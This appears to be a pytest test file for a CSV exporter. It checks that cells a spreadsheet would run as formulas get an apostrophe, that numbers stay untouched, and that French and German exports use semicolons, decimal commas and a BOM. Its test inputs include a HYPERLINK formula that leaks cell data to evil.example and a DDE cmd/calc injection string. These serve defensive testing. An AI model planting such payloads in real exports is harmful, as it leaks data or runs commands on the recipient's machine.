"""SPEC §22 "CSV": every cell a spreadsheet would run as a formula is neutralised; numbers stay numbers."""

import csv
import io

import pandas as pd
import pytest

from core.csv_export import as_file, frame_csv, neutralise, style_for, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize("cell", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
                                  "-", "+", "=", "@"])
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Patient P1", "", "3500", "-3", "-0.125", "+12", "1e-05", "-1.5E+3", 42, -7, -0.5,
                                  None, "a=b", " =1"])
def test_plain_text_and_numbers_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_write_csv_neutralises_header_and_cells_and_reads_back():
    text = write_csv(["name", "=evil"], [[HYPERLINK, -3], ["Ann", "-0.5"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "'=evil"], ["'" + HYPERLINK, "-3"], ["Ann", "-0.5"]]


def test_frame_csv_matches_pandas_for_safe_values_and_neutralises_the_rest():
    frame = pd.DataFrame({"kpi": ["booked", "@risk"], "value": [3, None], "change": [-0.125, 0.5]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
    assert rows == [["kpi", "value", "change"], ["booked", "3.0", "-0.125"], ["'@risk", "", "0.5"]]
    safe = frame.iloc[[0]]
    assert frame_csv(safe) == safe.to_csv(index=False, lineterminator="\n")


# ---- Excel in France and Germany: BOM, `;`, decimal commas (SPEC §22) ----

def _read_back(text: str, language: str) -> pd.DataFrame:
    """What a spreadsheet gets: the file's bytes, read with the reader's conventions."""
    data = io.BytesIO(as_file(text).encode("utf-8"))
    style = style_for(language)
    return pd.read_csv(data, sep=style.separator, decimal=style.decimal, encoding="utf-8", dtype={"name": str})


@pytest.mark.parametrize("language", ["fr", "de", "fr-FR", "de_DE"])
def test_french_and_german_csv_uses_semicolons_and_decimal_commas(language):
    text = write_csv(["name", "ratio", "cents"], [["Chloé Dubois", -0.125, 3500], ["Jörg; Müller", "0.5", -3]],
                     language=language)
    assert text.splitlines()[0] == "name;ratio;cents"
    assert text.splitlines()[1] == "Chloé Dubois;-0,125;3500"
    frame = _read_back(text, language)
    assert list(frame["name"]) == ["Chloé Dubois", "Jörg; Müller"]
    assert list(frame["ratio"]) == [-0.125, 0.5]
    assert list(frame["cents"]) == [3500, -3]


def test_english_csv_keeps_commas_and_points():
    text = write_csv(["name", "ratio"], [["Chloé", 0.25]], language="en")
    assert text == "name,ratio\nChloé,0.25\n"
    assert _read_back(text, "en").to_dict("records") == [{"name": "Chloé", "ratio": 0.25}]


def test_the_file_starts_with_a_utf8_bom_once():
    data = as_file(write_csv(["name"], [["Chloé"]])).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf") and not data[3:].startswith(b"\xef\xbb\xbf")
    assert "ChloÃ©" not in data.decode("utf-8-sig") and "Chloé" in data.decode("utf-8-sig")
    assert as_file(as_file("a\n")) == "\ufeffa\n"
    # pandas with the BOM-aware codec finds the header's first name intact
    assert list(pd.read_csv(io.BytesIO(data), encoding="utf-8-sig").columns) == ["name"]


@pytest.mark.parametrize("language", ["en", "fr", "de"])
def test_formulas_stay_neutralised_in_every_style(language):
    text = write_csv(["=evil", "n"], [[HYPERLINK, "-1.5"], ["@SUM(A1)", "+1"]], language=language)
    frame = pd.read_csv(io.StringIO(text), sep=style_for(language).separator, dtype=str)
    assert list(frame.columns) == ["'=evil", "n"]
    assert list(frame["'=evil"]) == ["'" + HYPERLINK, "'@SUM(A1)"]
    assert list(frame["n"]) == ["-1.5" if language == "en" else "-1,5", "+1"]
